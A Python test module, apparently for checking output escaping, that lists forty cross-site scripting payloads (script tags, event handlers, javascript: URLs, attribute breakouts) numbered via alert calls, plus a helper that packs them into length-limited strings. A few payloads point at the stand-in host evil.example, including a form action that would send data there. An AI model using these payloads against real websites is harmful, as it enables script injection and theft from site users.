"""Forty ways in which words become a program where somebody forgot to escape them (T25).

Each calls ``alert`` with a number, so that a browser says which one got through.
"""

from __future__ import annotations

_SHAPES = (
    "<script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "--><script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=x onerror='alert({n})'",
    '"><img src=x onerror=alert({n})>',
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg/onload=alert({n})//",
    "<body onload=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<iframe src=javascript:alert({n})>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n}) autofocus onfocus=alert({n})>press</a>",
    "<a href='&#106;avascript:alert({n})'>press</a>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<math><mi xlink:href=javascript:alert({n})>x</mi></math>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<form action=//evil.example/{n}><button>press</button></form>",
    "<style>@import '//evil.example/{n}'</style>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    '" onmouseover="alert({n})" x="',
    "' autofocus onfocus='alert({n})",
    "`-alert({n})-`",
    "javascript:alert({n})",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
)
PAYLOADS = tuple(shape.format(n=n) for n, shape in enumerate(_SHAPES, start=1))


def groups(longest: int) -> list[str]:
    """Return the payloads joined by spaces, in as few texts as have room for so many characters each."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) + 1 > longest:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip()
    return found
